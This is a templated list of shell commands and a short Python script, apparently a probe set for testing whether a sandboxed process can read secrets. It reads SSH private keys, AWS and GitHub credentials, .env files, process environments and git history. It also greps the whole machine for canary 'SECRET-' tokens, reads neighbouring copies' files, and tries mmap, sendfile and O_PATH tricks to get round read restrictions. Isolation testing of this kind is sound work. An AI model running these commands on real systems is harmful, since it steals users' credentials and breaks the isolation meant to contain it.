### keys
cat @HOME@/keys/* @HOME@/*.toml @HOME@/tokens.json @USER@/.ssh/id_ed25519 @USER@/.aws/credentials @USER@/.netrc @USER@/.config/gh/hosts.yml
### records and journals
find @PROJECT@ @HOME@ @USER@ @OTHER@ -type f 2>/dev/null | head -500 | while read -r f; do grep -ao 'SECRET-[A-Z]*-[0-9a-z]*' "$f"; done
### the copies of others
cat @COPIES@/neighbour/copy/neighbour.txt; ls -R @COPIES@; find @WORLD@ -name neighbour.txt 2>/dev/null | while read -r f; do cat "$f"; done
### what git ignores, and what the environment holds
cat @PROJECT@/.env build/secret.env .env; env; cat /proc/$PPID/environ /proc/@VICTIM@/environ; git log -p --all 2>/dev/null | grep -ao 'SECRET-[A-Z]*-[0-9a-z]*'
### everything that can be read at all
#alone: it would read the whole machine
grep -raoh --exclude-dir=proc --exclude-dir=sys 'SECRET-[A-Z]*-[0-9a-z]*' @WORLD@ /tmp /run /root /home /var/tmp /dev/shm 2>/dev/null | sort -u
### by a mapping, a pipe, a copy that the kernel makes
python3 - <<'P'
import ctypes, mmap, os
for name in ("@OUTSIDE@/secret.txt", "@HOME@/keys/tester.key", "@PROJECT@/.env"):
    for act in (lambda: mmap.mmap(os.open(name, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:], lambda: os.sendfile(1, os.open(name, os.O_RDONLY), 0, 999),
                lambda: os.readlink(name), lambda: os.open(name, os.O_PATH) and open(f"/proc/self/fd/{os.open(name, os.O_PATH)}").read()):
        try: print(act())
        except OSError as error: print(error)
P
